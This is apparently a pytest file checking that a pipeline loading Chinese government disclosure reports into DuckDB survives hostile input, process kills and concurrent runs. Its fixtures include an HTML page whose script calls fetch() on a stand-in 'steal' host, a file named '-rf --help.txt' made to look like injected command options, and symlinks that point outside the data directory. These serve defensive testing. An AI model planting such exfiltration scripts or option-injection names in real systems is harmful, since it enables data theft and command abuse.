"""Hostile input and faults: the run goes on, loses nothing, publishes nothing half-made."""

import os
import random
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import duckdb
import pytest

from orchestration.lib.parsing import parse_report
from tests.conftest import SEEDS

OGI = str(Path(sys.executable).with_name("ogi"))
SHANGQIU = SEEDS["003"].read_text(encoding="utf-8")


def _ogi_run(raw: Path, warehouse: Path, **kwargs):
    return subprocess.Popen([OGI, "run", "--raw", str(raw), "--warehouse", str(warehouse)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, **kwargs)


def _published(warehouse: Path) -> dict[str, list]:
    with duckdb.connect(str(warehouse / "published.duckdb"), read_only=True) as con:
        return {
            "facts": con.execute("select * exclude (report_sha256) from fct_agency_year order by all").fetchall(),
            "reports": con.execute("select file_path, status, reason from reports order by all").fetchall(),
            "issues": con.execute("select * from quality_issues order by all").fetchall(),
        }


@pytest.mark.parametrize("data, code", [
    (b"", "empty_file"),
    (b"  \n\t\r\n", "empty_file"),
    (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "binary_file"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary_file"),
    (random.Random(7).randbytes(4000), "binary_file"),
    (b"x" * (9 * 1024 * 1024), "file_too_large"),
])
def test_non_reports_are_rejected_with_a_specific_reason(data, code):
    report = parse_report(data, "bad")
    assert report.status == "rejected"
    assert report.reason.startswith(code + ":")
    assert report.issues[-1].code == code


def test_a_zip_archive_is_binary():
    import io

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("report.txt", SHANGQIU)
    assert parse_report(buffer.getvalue(), "a.zip").reason.startswith("binary_file: ZIP")


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    raw = root / "raw"
    raw.mkdir()
    shutil.copy(SEEDS["002"], raw / "柞水 县 2018 年报.txt")            # spaces and Chinese
    shutil.copy(SEEDS["003"], raw / "-rf --help.txt")                   # leading dashes
    shutil.copy(SEEDS["003"], raw / "..same bytes again.txt")           # dots, a duplicate
    (raw / "empty.txt").write_bytes(b"")
    (raw / "scan.pdf").write_bytes(b"%PDF-1.4\n" + bytes(range(256)) * 20)
    (raw / "noise.bin").write_bytes(random.Random(1).randbytes(3000))
    (raw / "huge.txt").write_bytes(("政府信息公开" * 3_000_000).encode("utf-8"))  # ~54 MB
    (raw / "cut.txt").write_text(SHANGQIU[: SHANGQIU.index("(三)申请答复数")], encoding="utf-8")
    (raw / "page.html").write_text(
        "<html><head><script>fetch('http://example.invalid/steal')</script></head><body>"
        "<iframe src='http://example.invalid/'></iframe><a href='http://example.invalid/x'>链接</a>"
        "<p>商丘市工业和信息化委员会2017年政府信息公开工作年度报告</p></body></html>", encoding="utf-8")
    absurd = SHANGQIU.replace("(一)收到申请数 | 件 | 1 |", "(一)收到申请数 | 件 | 1000000000000 |")
    (raw / "absurd.txt").write_text(absurd.replace("商丘市工业和信息化委员会2017", "开封市工业和信息化委员会2017"),
                                    encoding="utf-8")
    rival = SHANGQIU.replace("5.其他方式公开政府信息数 | 条 | 213 |", "5.其他方式公开政府信息数 | 条 | 214 |")
    (raw / "republished.txt").write_text(rival, encoding="utf-8")
    os.utime(raw / "republished.txt", (2_000_000_000, 2_000_000_000))  # the newest of the two
    os.symlink(root / "gone.txt", raw / "dangling.txt")
    # Mostly UTF-8 with a GBK-encoded sentence pasted in.
    (raw / "mixed.txt").write_bytes(SHANGQIU.encode("utf-8") + "以上数据截至年底。".encode("gbk"))
    outside = root / "outside.txt"
    outside.write_text(SHANGQIU, encoding="utf-8")
    os.symlink(outside, raw / "link.txt")
    warehouse = root / "warehouse"
    process = _ogi_run(raw, warehouse)
    out, err = process.communicate(timeout=600)
    assert process.returncode == 0, out + err
    return raw, warehouse, out


def test_every_bad_file_has_a_status_and_reason(hostile_run):
    _, warehouse, out = hostile_run
    reports = {path: (status, reason) for path, status, reason in _published(warehouse)["reports"]}
    assert reports["empty.txt"][0] == "rejected" and reports["empty.txt"][1].startswith("empty_file")
    assert reports["scan.pdf"][1].startswith("binary_file: PDF")
    assert reports["noise.bin"][1].startswith("binary_file")
    assert reports["huge.txt"][1].startswith("file_too_large")
    assert reports["link.txt"] == ("rejected", reports["link.txt"][1])
    assert "outside the raw directory" in reports["link.txt"][1]
    # A page with only a title is a report with no statistics: it loses to the real one.
    assert reports["page.html"][0] == "superseded"
    assert reports["dangling.txt"][0] == "rejected" and "FileNotFoundError" in reports["dangling.txt"][1]
    assert reports["mixed.txt"][0] in ("published", "superseded")  # read as UTF-8, the GBK tail noted
    assert reports["..same bytes again.txt"][0] == "duplicate_file"
    assert reports["-rf --help.txt"][0] in ("published", "superseded")
    assert reports["柞水 县 2018 年报.txt"][0] == "published"
    # Two different reports of one agency-year: the newer is chosen, the other is kept visible.
    assert reports["republished.txt"][0] == "published"
    assert reports["-rf --help.txt"] == ("superseded", reports["-rf --help.txt"][1])
    assert "republished.txt" in reports["-rf --help.txt"][1]
    assert "rejected:" in out and "binary_file: 2" in out


def test_cut_off_report_keeps_what_it_read(hostile_run):
    _, warehouse, _ = hostile_run
    with duckdb.connect(str(warehouse / "published.duckdb"), read_only=True) as con:
        status = con.execute("select status from reports where file_path = 'cut.txt'").fetchone()[0]
        received = con.execute("""select value from fct_report_values
                                  where source_file = 'cut.txt' and key = 'apps.received'""").fetchall()
    # The cut copy competes with the full report of the same agency-year and loses (fewer values).
    assert status == "superseded"
    assert received == []


def test_absurd_numbers_are_withheld(hostile_run):
    _, warehouse, _ = hostile_run
    with duckdb.connect(str(warehouse / "published.duckdb"), read_only=True) as con:
        received = con.execute("""select applications_received from fct_agency_year
                                  where agency_name = '开封市工业和信息化委员会'""").fetchone()
        rules = con.execute("""select distinct rule from quality_issues
                               where source_file = 'absurd.txt' and key = 'apps.received' order by 1""").fetchall()
    assert received == (None,)
    assert rules == [("old.apps_received",), ("plausible_magnitude",)]


def test_nothing_was_fetched_or_executed(hostile_run):
    raw, _, _ = hostile_run
    assert sorted(p.name for p in raw.iterdir())[0] == "-rf --help.txt"  # still there, untouched


def _kill_after(raw: Path, warehouse: Path, marker: str, delay: float) -> None:
    """Start a run and kill -9 its whole process group `delay` seconds after its output shows `marker`."""
    process = _ogi_run(raw, warehouse, start_new_session=True)
    for line in process.stdout:
        if marker in line:
            break
    else:
        raise AssertionError(f"the run ended without printing {marker!r}")
    time.sleep(delay)
    os.killpg(process.pid, signal.SIGKILL)
    process.wait()


def test_kill_minus_nine_anywhere_leaves_the_published_marts_and_the_next_run_completes(tmp_path):
    names = ("000", "001", "002", "003")
    full = tmp_path / "full"
    full.mkdir()
    for name in names:
        shutil.copy(SEEDS[name], full / SEEDS[name].name)
    reference = tmp_path / "reference"
    assert _ogi_run(full, reference).wait(timeout=600) == 0
    expected = _published(reference)

    raw = tmp_path / "raw"
    raw.mkdir()
    for name in names[:-1]:
        shutil.copy(SEEDS[name], raw / SEEDS[name].name)
    warehouse = tmp_path / "warehouse"
    assert _ogi_run(raw, warehouse).wait(timeout=600) == 0
    before = _published(warehouse)
    shutil.copy(SEEDS["003"], raw / SEEDS["003"].name)  # new content for the killed runs to work on
    # While scanning, parsing, staging, inside dbt (twice) and during the checks.
    for marker, delay in (("[ingest]", 0), ("[parse] shard", 0), ("[stage]", 0), ("[dbt] building", 2),
                          ("[dbt] building", 5), ("[check] published_identities", 0)):
        _kill_after(raw, warehouse, marker, delay)
        assert _published(warehouse) == before, (marker, delay)
    finished = _ogi_run(raw, warehouse)
    out, err = finished.communicate(timeout=600)
    assert finished.returncode == 0, out + err
    assert _published(warehouse) == expected


def test_ogi_parse_into_a_reader_that_stops_early_ends_quietly():
    # `ogi parse … | head`: far more output than a pipe holds, read no further than a few bytes
    proc = subprocess.Popen([OGI, "parse", *[str(SEEDS["003"])] * 200], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    proc.stdout.read(10)
    proc.stdout.close()
    assert proc.wait(timeout=60) == 128 + signal.SIGPIPE
    assert proc.stderr.read() == b""  # no traceback


def test_a_run_refuses_a_held_warehouse_before_starting_its_step_server(tmp_path, monkeypatch, capsys):
    from orchestration import cli, step_processes
    from orchestration.lib.paths import WarehouseLayout
    from orchestration.run_lock import warehouse_lock

    def start_step_server():
        raise AssertionError("the step server started for a run that is refused")

    monkeypatch.setattr(step_processes, "start_step_server", start_step_server)
    warehouse = tmp_path / "warehouse"
    with warehouse_lock(WarehouseLayout(warehouse)):
        code = cli.main(["run", "--raw", str(tmp_path / "raw"), "--warehouse", str(warehouse), "--workers", "2"])
    assert code == 3
    assert f"another run is using {warehouse} (pid {os.getpid()})" in capsys.readouterr().err
    assert not (warehouse / "warehouse.duckdb").exists()


def test_a_second_concurrent_run_refuses_with_a_clear_message(tmp_path):
    raw = tmp_path / "raw"
    raw.mkdir()
    shutil.copy(SEEDS["003"], raw / SEEDS["003"].name)
    warehouse = tmp_path / "warehouse"
    first = _ogi_run(raw, warehouse)
    for line in first.stdout:
        if "[ingest]" in line:
            break
    second = _ogi_run(raw, warehouse)
    out, err = second.communicate(timeout=120)
    assert second.returncode == 3
    assert "another run is using" in err and str(first.pid) in err
    first.stdout.read()
    assert first.wait(timeout=600) == 0
